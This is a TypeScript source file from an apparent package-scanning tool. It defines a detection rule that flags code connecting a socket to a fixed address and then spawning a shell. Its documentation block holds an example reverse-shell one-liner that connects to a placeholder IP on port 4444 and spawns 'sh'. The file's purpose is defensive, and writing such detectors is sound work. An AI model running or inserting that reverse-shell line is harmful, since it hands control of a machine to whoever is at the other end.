import { SHELL } from '../facts/programs.js';
import type { Sighting } from '../machine/sighting.js';
import { isUnasked } from '../values/reach.js';
import { WHEN } from './combination.js';
import type { PairCombination } from './pair-combination.js';

/** An address by numbers, of a private network too: there shells are opened as well. */
const NUMBERED = /^(?!127\.|0\.)\d{1,3}(?:\.\d{1,3}){3}:\d/;

const isSocket = ({ behaviour, host, name, text }: Sighting): boolean =>
  behaviour === 'contacts' &&
  /^socket\./.test(name) &&
  (host !== undefined || name.endsWith('.bind') || NUMBERED.test(text ?? ''));

export const shellOpenedToOutside: PairCombination = {
  doc: {
    id: 'shell-opened-to-outside',
    title: 'Connects to a fixed address and starts a shell',
    why: 'A shell tied to a connection lets whoever is at the other end type commands on your machine.',
    remedy: 'Do not install the package. If it ran, treat the machine as taken over.',
    example: 's.connect(("198.51.100.1", 4444)); os.dup2(s.fileno(), 0); pty.spawn("sh")',
    technique: 'T1059.004',
  },
  within: 'file',
  first: (sighting) => isSocket(sighting) || sighting.behaviour === 'connects-shell',
  second: ({ behaviour, text }) => behaviour === 'starts-process' && SHELL.test(text ?? ''),
  // What the shell is told comes from there, whoever called.
  severity: ({ reach }, { behaviour, labels }) =>
    isUnasked(reach) || behaviour === 'connects-shell' || labels.has('process-output') ? 'CRITICAL' : 'HIGH',
  message: (_first, { name, reach }) => `${name} starts a shell beside a fixed connection ${WHEN[reach]}`,
};
